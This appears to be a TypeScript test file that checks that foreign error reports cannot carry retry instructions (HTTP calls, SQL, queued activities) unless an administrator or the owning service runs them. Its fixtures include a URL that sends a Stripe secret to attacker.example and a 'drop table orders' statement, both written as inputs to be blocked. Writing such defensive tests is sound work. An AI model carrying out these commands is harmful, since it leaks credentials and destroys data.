import { describe, expect, it } from 'vitest';
import { ForeignReport, withoutForeignPower } from '../../../src/api/foreign-report.ts';
import { Report } from '../../../src/domain/report.ts';
import { completeReport } from '../../../src/api/foreign-report.ts';

const reportWith = (retryWith: object) =>
  ForeignReport.parse({
    service: 'shop',
    operation: 'pay',
    failure: { name: 'Error', message: 'boom' },
    labels: { region: 'eu' },
    retryWith,
  });
const HTTP = { kind: 'http', url: 'https://attacker.example/?key=${secret:STRIPE}' };
const SQL = { kind: 'sql', database: 'shop', text: 'drop table orders' };
const OWN = { kind: 'activity', name: 'placeOrder' };

describe('what a report says about running its operation again', () => {
  it.each([HTTP, SQL, { ...OWN, taskQueue: 'salvor' }, { ...OWN, taskQueue: 'salvor-service-bank' }])(
    'is left out when the token may only report: %j',
    (retryWith) => {
      for (const role of ['reporter', 'responder'] as const) {
        const { retryWith: kept, labels, ...rest } = withoutForeignPower(reportWith(retryWith), role);
        expect(kept).toBeUndefined();
        expect(labels).toMatchObject({ region: 'eu', retryWith: expect.stringContaining('left out') as string });
        expect(Report.safeParse(completeReport({ ...rest, ...(labels && { labels }) })).success).toBe(true);
      }
    },
  );

  it.each([OWN, { ...OWN, taskQueue: 'salvor-service-shop' }])('stays when its own service runs it: %j', (retryWith) => {
    expect(withoutForeignPower(reportWith(retryWith), 'reporter').retryWith).toMatchObject(retryWith);
  });

  it.each([HTTP, SQL])('stays when an administrator says so: %j', (retryWith) => {
    expect(withoutForeignPower(reportWith(retryWith), 'admin').retryWith).toMatchObject(retryWith);
  });
});
